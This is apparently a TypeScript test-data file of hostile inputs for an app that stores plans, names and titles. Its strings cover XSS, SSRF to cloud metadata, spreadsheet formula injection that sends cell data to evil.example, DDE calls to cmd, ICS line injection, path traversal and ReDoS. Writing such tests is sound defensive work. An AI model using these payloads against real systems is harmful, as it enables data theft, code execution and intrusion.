import type { Nasty } from './nasty.ts'

const zwj = '\u200d'

export const texts: readonly Nasty[] = [
  {
    id: 'A01',
    why: 'links, pictures and frames that would act, spy, or make a server fetch them',
    tries: [
      {
        at: 'text',
        values: [
          '[plan](javascript:alert(1))',
          '![x](http://169.254.169.254/latest/meta-data/)',
          '![p](https://evil.example/p.gif?room=1)',
          '<iframe src=http://127.0.0.1:5432></iframe>',
          '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
          'file:///etc/passwd',
          '\\\\evil.example\\share\\x.png',
        ],
        is: 'kept',
      },
    ],
  },
  {
    id: 'A03',
    why: 'formulas, for whoever opens a list in a spreadsheet',
    tries: [
      {
        at: 'text',
        values: [
          '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
          '+1+1',
          '-2+3',
          "@SUM(1+1)*cmd|' /C calc'!A0",
          ['\t=1+1', ' =1+1'],
          ['\r=1+1', '\n=1+1'],
          '\n=1+1',
          '  =1+1',
          '\u200b=1+1',
          '\uff1d1+1',
          '\uff0b1',
          '\uff0d1',
          '\uff20A1',
          '";=1+1;"',
          '=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")',
          '|calc',
        ],
        is: 'kept',
      },
    ],
  },
  {
    id: 'A08',
    why: 'what one database takes and the other does not',
    tries: [
      {
        at: 'text',
        values: ['before\u0000after', '\ud83d', 'ok \udc00 ok', '\u0000', 'no\ufffe', '\u{1ffff}'],
        is: { refused: 'answer-chars' },
      },
    ],
  },
  {
    id: 'X08',
    why: 'what ends a script element, a comment or a line inside the page’s own block of JSON',
    tries: [
      {
        at: 'text',
        values: [
          '</script><script>alert(1)</script>',
          '<!--<script>',
          ']]>--><!DOCTYPE html>',
          '\\u003c/script\\u003e',
          ['a\u2028b\u2029c', 'a\nb\nc'],
          '"}</head><body onload=alert(1)>',
        ],
        is: 'kept',
      },
      { at: 'name', values: ['</script><!--', '\\u003cscript\\u003e'], is: 'kept' },
      { at: 'title', values: ['</script><script>alert(1)</script>', '$&$`$1'], is: 'kept' },
    ],
  },
  {
    id: 'X09',
    why: 'lines of their own in a calendar, through line ends, escapes, or a fold inside a character',
    tries: [
      {
        at: 'text',
        values: [
          ['Meet\r\nATTACH:file:///etc/passwd', 'Meet\nATTACH:file:///etc/passwd'],
          'x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:y',
          'x\\nATTENDEE:mailto:a@evil.example',
          '"\nDTSTART;VALUE=DATE:20000101',
          `${'ü'.repeat(40)}\n ATTACH:x`,
          `👩${zwj}👩${zwj}👧`.repeat(9),
          ['a\u0085URL:https://evil.example\u000bb', 'a\nURL:https://evil.example\nb'],
        ],
        is: 'kept',
      },
      { at: 'title', values: [['Trip\nMETHOD:CANCEL', 'Trip METHOD:CANCEL']], is: 'kept' },
    ],
  },
  {
    id: 'X10',
    why: 'fences, comments and tables in a plan that is kept as Markdown',
    tries: [
      {
        at: 'text',
        values: [
          '```\n# code\n```',
          '~~~html\n<b>\n~~~',
          '<!-- and the rest is gone',
          'a\n===\nb\n---',
          '[x]: https://evil.example "t"',
          '- [x] done\n* more\n+ more\n1) more\n> more',
          '| a | b |\n| - | - |',
          '&lt;script&gt; &#106;avascript: &NewLine;',
          '# heading\n    indented',
          '<https://evil.example> www.evil.example me@evil.example',
          '\\`*_{}[]<>()#+-.!|\\',
        ],
        is: 'kept',
      },
    ],
  },
  {
    id: 'X11',
    why: 'names that a file system or an archiver reads as more than a name',
    tries: [
      {
        at: 'name',
        values: [
          '..\\..\\con.txt',
          '../../etc/passwd',
          'C:\\Windows\\x',
          'CON',
          'nul.pdf',
          '-rf *',
          '.hidden',
          'a"; filename=b.exe',
          ['gpj\u202efdp.exe', 'gpjfdp.exe'],
          '𝔘'.repeat(40),
          '%2e%2e%2f',
          '~',
          '*?<>|:"',
        ],
        is: 'kept',
      },
      {
        at: 'title',
        values: [
          '..\\..\\con.txt',
          'a"; filename="b.exe',
          '../../x',
          'x.pdf\u00a0.exe',
          'é"%0d%0a',
        ],
        is: 'kept',
      },
    ],
  },
  {
    id: 'X12',
    why: 'formulas where they are no answer: in names and titles',
    tries: [
      { at: 'name', values: ["=cmd|' /C calc'!A0", '+491234567', '@SUM(A1)', '-1'], is: 'kept' },
      { at: 'title', values: ['=1+1', '@x'], is: 'kept' },
    ],
  },
  {
    id: 'X15',
    why: 'text that gets longer or shorter when it is brought into normal form',
    tries: [
      {
        at: 'text',
        values: [
          ['\u0958'.repeat(20), '\u0915\u093c'.repeat(20)],
          ['\u1112\u1161\u11ab'.repeat(20), '한'.repeat(20)],
          ['\u{1d160}', '\u{1d158}\u{1d165}\u{1d16e}'],
          ['\ufb2c', '\u05e9\u05bc\u05c1'],
          '\ufdfa\ufb03',
          ['\u212b\u2126', '\u00c5\u03a9'],
        ],
        is: 'kept',
      },
      {
        at: 'name',
        values: [
          ['e\u0301'.repeat(40), 'é'.repeat(40)],
          ['\u1112\u1161\u11ab'.repeat(40), '한'.repeat(40)],
        ],
        is: 'kept',
      },
      { at: 'name', values: ['\u0958'.repeat(21)], is: { refused: 'name-too-long' } },
    ],
  },
  {
    id: 'X17',
    why: 'words without end and nothing but line ends: walls, phones and paper must not break or hang',
    tries: [
      {
        at: 'text',
        values: [
          'W'.repeat(200),
          `x${'\n'.repeat(150)}y`,
          `https://evil.example/${'a/'.repeat(80)}`,
          '﷽'.repeat(60),
          '漢'.repeat(180),
          '\u00ad\u200b'.repeat(90) + 'end',
          '('.repeat(99) + ')'.repeat(99),
        ],
        is: 'kept',
      },
      { at: 'name', values: ['W'.repeat(40), '﷽'.repeat(40)], is: 'kept' },
      { at: 'title', values: ['W'.repeat(120)], is: 'kept' },
    ],
  },
  {
    id: 'X21',
    why: 'strings that make a careless pattern search without end',
    tries: [
      {
        at: 'text',
        values: [
          `${'a'.repeat(150)}!`,
          `${' '.repeat(150)}x`,
          `${'\ufe0f'.repeat(8)}${zwj.repeat(150)}b`,
          `${'.,;:!?'.repeat(25)}a`,
          `${'1.'.repeat(90)}`,
          `${'-'.repeat(150)}a`,
        ],
        is: 'kept',
      },
      {
        at: 'name',
        values: [
          [`🏽${'🏽'.repeat(3)}a${zwj.repeat(480)}b`, `🏽🏽🏽🏽ab`],
          [`${'x '.repeat(15)}${' '.repeat(900)}y`, `${'x '.repeat(15)}y`],
        ],
        is: 'kept',
      },
      { at: 'code', values: [() => '1 '.repeat(30), () => `${'-'.repeat(60)}1`], is: 'a miss' },
    ],
  },
]
